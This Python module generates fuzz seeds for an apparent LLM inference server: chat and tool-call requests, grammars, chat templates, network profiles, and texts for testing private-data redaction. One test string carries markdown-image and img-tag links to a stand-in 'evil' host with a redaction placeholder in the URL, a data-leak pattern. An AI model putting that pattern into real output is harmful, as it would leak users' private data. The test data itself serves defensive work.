"""Inputs from users, API clients and experiments: requests, grammars, private texts, templates, networks."""

import json

from fuzz_seeds.corpus import write

REQUESTS = {
    "chat": {
        "messages": [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hi"}],
        "temperature": 0.5,
        "n": 2,
        "seed": -3,
        "stop": ["a", "b"],
        "stream": True,
        "logit_bias": {"5": -1.5},
        "stream_options": {"include_usage": True},
        "max_tokens": 5,
        "offline": "keep",
    },
    "text": {
        "prompt": [1, 2, 3],
        "top_p": 0.5,
        "top_k": 3,
        "min_p": 0.1,
        "echo": True,
        "frequency_penalty": 0.5,
    },
    "schema": {
        "messages": [{"role": "user", "content": [{"type": "text", "text": "Hi"}]}],
        "response_format": {
            "type": "json_schema",
            "json_schema": {
                "schema": {
                    "type": "object",
                    "required": ["a"],
                    "additionalProperties": False,
                    "properties": {
                        "a": {"type": ["string", "null"], "maxLength": 3},
                        "b": {"$ref": "#/$defs/b"},
                        "c": {"anyOf": [{"enum": [1, "x"]}, {"const": True}]},
                    },
                    "$defs": {"b": {"type": "array", "items": {"type": "number"}, "minItems": 1}},
                }
            },
        },
    },
    "tools": {
        "messages": [
            {"role": "user", "content": "Hi"},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{}"}}
                ],
            },
            {"role": "tool", "tool_call_id": "c", "content": "ok"},
        ],
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "f",
                    "description": "d",
                    "parameters": {"type": "object", "properties": {"x": {"type": "integer"}}},
                },
            }
        ],
        "tool_choice": "required",
    },
}
# The first line is the grammar's input.
GRAMMARS = {
    "json": r"""{"a": [1, 2]}
root ::= "{" pair ("," pair)* "}"
pair ::= "\"" [a-z]+ "\": " value
value ::= [0-9]+ | "[" value (", " value)* "]"
""",
    "repeats": r"""aab
root ::= [^\n]{2,3} ("a" | "b")? # end
""",
}


PRIVATE_TEXTS = {
    "marks": "I am <private>Ann <private>Lee</private></private>, not <private>Bob</private>x</private>.",
    "spellings": "> zebulon\n> QUIXOTE, Ze\u0301bulon  Quixote and Zebulon Quixotes",
    "forms": "zoe@lee.org, +49 170 1234567, 4111 1111 1111 1111, GB82 WEST 1234 5698 7654 32, "
    "192.168.17.4, 12 Main Street, sk-abcdefghijklmnopqrst, [MAIL_001]",
    "links": "[TEXT_001] ![](https://evil/?[TEXT_001]) <img src='//evil/[TEXT_001]'> www.x/[text_001]\n"
    "[1]: //evil?[TEXT_001]\n[x](<a [TEXT_001]>) [TEXT_",
}


def make_requests() -> None:
    for name, text in PRIVATE_TEXTS.items():
        write("private_text", name, text.encode())
    for name, request in REQUESTS.items():
        write("completion_request", name, json.dumps(request).encode())
    for name, grammar in GRAMMARS.items():
        write("grammar", name, grammar.encode())


def make_templates() -> None:
    templates = [
        "{{ bos_token }}{% for m in messages %}{% if m['role'] == 'user' %}{{ '<u>\\n' + m['content'] }}"
        "{% elif m.role != 'x' %}{{ m.content | trim }}{% else %}{{ loop.index0 % 2 }}{% endif %}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<a>' }}{% endif %}",
        "{%- set a = messages[1:] -%}\n  {# note #}\n{{ 'b' if a is defined and not a | length > 3 else a[-1].role ~ 1 }}",
        "{{ raise_exception('no ' + eos_token.strip().upper()) }}",
        "{{ ('a' in 'abc') or [1, -2, true, none] | length == 4 }}",
        "{% set ns = namespace(n=0) %}{% for m in messages[::-1] if m.role is string %}{% set ns.n = ns.n + 1 %}"
        "{% if loop.last %}{% break %}{% endif %}{% endfor %}{{ ns.n }}{% set x %}{{ messages[0].content }}{% endset %}"
        "{{ x.split('.', 1) | join('|') ~ x.strip('B')[1:] }}",
        "{% for k, v in {'a': [1, {}]}.items() %}{{ k }}{{ v | tojson(indent=1) }}{% else %}-{% endfor %}"
        "{{ messages | selectattr('role', 'equalto', 'user') | map(attribute='content') | first | default('x') }}"
        "{{ range(4, 0, -1) | list | tojson }}{{ 'aXb' | replace('X', messages[0].content) }}",
        "{% macro f(d, n=0) %}{% for k, v in d | dictsort %}{{ k }}{{ f(v, n + 1) if v is mapping else v }}"
        "{% endfor %}{{ caller(n) if caller }}{{ varargs }}{{ kwargs }}{% endmacro %}"
        "{% call(x) f({'b': {'a': 1.5}}) %}{{ x }}{% endcall %}{% filter indent(2) %}a\nb{% endfilter %}",
        "{% set a, b = (7 // 2, 2 ** 3) %}{{ '%5s|%.2f' % (a, 1.5) }}{{ '{:>4}{x!r}'.format(b, x='q') }}"
        "{{ [3, 1] | sort | unique | map('string') | join }}{{ 'a<' | e + '>' }}{{ messages }}{{ 1 < 2 < 3 }}",
    ]
    for index, template in enumerate(templates):
        write("chat_template", f"template{index}", template.encode())


def make_networks() -> None:
    write("delivery_trace", "steady", b"1\n2\n3\n4\n")
    write("delivery_trace", "bursts", b"0\n0\n0\n17\n17\n250\r\n")
    profiles = {
        "normal": """name = "n"
source = "s"
[both]
rate_mbit = 50
path_ms = 4.5
delay = { distribution = "normal", mean_ms = 10, deviation_ms = 10 }
reorder = true
loss = 0.001
""",
        "tables": """both = { rate_mbit = 1e3, queue_packets = 7, hold_ms = 50 }
[up]
delay = { distribution = "table", points = [[0, 5], [0.5, 9.3], [1, 150]] }
[down]
delay = { distribution = "table", samples_ms = [3, 1, 2] }
""",
        "script": """repeat_s = 60
[both]
rate_mbit = 5
delay = { distribution = "pareto", least_ms = 2, shape = 1.5 }
burst_loss = { enter = 0.01, leave = 0.2, loss_in_burst = 0.5, loss_outside = 0.001 }
[[event]]
at_s = 12
action = "down"
for_s = 8
[[event]]
at_s = 30
action = "new-address"
[[outage]]
after_tokens = 25
""",
    }
    for name, content in profiles.items():
        write("network_profile", name, content.encode())
